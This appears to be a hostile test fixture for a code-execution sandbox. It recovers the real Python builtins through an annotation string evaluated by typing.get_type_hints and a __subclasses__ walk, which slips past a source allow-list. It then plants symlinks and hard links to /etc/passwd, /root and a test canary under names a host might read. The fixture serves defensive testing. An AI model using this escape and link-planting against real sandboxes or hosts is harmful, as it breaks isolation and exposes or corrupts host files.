"""Plant symlinks and hard links in /tmp and the working directory pointing at
host paths (the canary the test planted, the project, /etc/passwd), under
names a careless host might read or clean up (report.json, stdout, result).
The host must never follow them: the canary file must come out unchanged."""
import typing


def _real_builtins(hint: "lambda: [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__['__builtins__']"):
    """The import allow-list is a policy, not the boundary: typing evaluates this
    annotation string, which the source check never parses, and it reaches the
    real builtins through os._wrap_close. The payload below then runs with them."""


_BUILTINS = typing.get_type_hints(_real_builtins)["hint"]()
PAYLOAD = r'''
import numpy as np


CANARY = "/tmp/hotpath-hostile-canary/secret.txt"
HOST_TARGETS = (CANARY, "/tmp/hotpath-hostile-canary", "/etc/passwd", "/", "/work", "/root")
NAMES = ("report.json", "stdout", "stderr", "result", "output", "job.json", "submission.py", "harness", "tmp", "x")


def _plant(os, directory):
    planted = 0
    for name in NAMES:
        for index, target in enumerate(HOST_TARGETS):
            try:
                os.symlink(target, os.path.join(directory, f"{name}.{index}" if index else name))
                planted += 1
            except OSError:
                pass
    try:
        os.link(CANARY, os.path.join(directory, "hardlink"))
    except OSError:
        pass
    return planted


def _probe():
    import os
    planted = _plant(os, "/tmp") + _plant(os, os.getcwd())
    found = []
    try:
        with open("/tmp/report.json", "rb") as handle:  # only dangerous if the host's canary is visible here
            found.append(f"followed to host canary: {handle.read(80)!r}")
    except OSError:
        pass
    return planted, found


_PLANTED, _FINDINGS = _probe()


def transform(x):
    if _FINDINGS:
        raise RuntimeError("ESCAPED: " + "; ".join(_FINDINGS))
    return np.sqrt(x * x + 1.0) * 2.0 - x
'''
_namespace = {"__builtins__": _BUILTINS, "__name__": "payload"}
_BUILTINS["exec"](PAYLOAD, _namespace)
transform = _namespace["transform"]
_FINDINGS = _namespace.get("_FINDINGS")  # for the sandbox-layer tests, which run this file directly
_written = _namespace.get("_written")
